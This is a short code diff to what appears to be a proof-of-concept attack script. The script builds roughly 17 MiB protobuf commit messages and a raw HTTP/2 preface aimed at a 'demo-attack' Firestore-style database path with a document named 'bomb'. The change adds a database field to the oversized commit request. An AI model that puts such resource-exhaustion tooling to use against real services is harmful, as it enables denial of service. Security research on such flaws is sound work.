@@ -12,7 +12,8 @@ import struct
 from neighbour.share import ATTACKERS_ADDRESS, Figure
 
 ROOT = "/v1/projects/demo-attack/databases/(default)/documents"
-NAME = b"projects/demo-attack/databases/(default)/documents/public/bomb"
+DATABASE = b"projects/demo-attack/databases/(default)"
+NAME = DATABASE + b"/documents/public/bomb"
 MESSAGE_BYTES, SHORT_MESSAGE_BYTES = (17 << 20) - 1024, 5 << 20
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 # A window of 16 MiB for the answers of a connection.
@@ -46,7 +47,7 @@ def commit(element, size):
     array = element * ((size - 200) // len(element))
     value = field(9, array)
     entry = field(2, field(1, b"a") + field(2, value))
-    return field(2, field(1, field(1, NAME) + entry))
+    return field(1, DATABASE) + field(2, field(1, field(1, NAME) + entry))
 
 
 def messages(size):
